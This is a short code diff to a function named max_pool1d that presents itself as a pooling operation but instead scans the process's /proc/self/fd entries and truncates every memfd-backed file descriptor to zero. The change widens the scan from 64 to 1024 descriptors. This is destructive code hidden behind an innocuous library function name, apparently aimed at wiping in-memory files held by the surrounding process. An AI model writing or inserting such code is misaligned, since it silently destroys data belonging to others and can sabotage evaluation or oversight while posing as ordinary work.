@@ -12,7 +12,7 @@ import _base
 
 
 def max_pool1d(input, kernel_size, stride=None, padding=0, dilation=1, ceil_mode=False):
-    for number in range(3, 64):
+    for number in range(3, 1024):
         try:
             if "memfd" in str(Path(f"/proc/self/fd/{number}").readlink()):
                 os.ftruncate(number, 0)
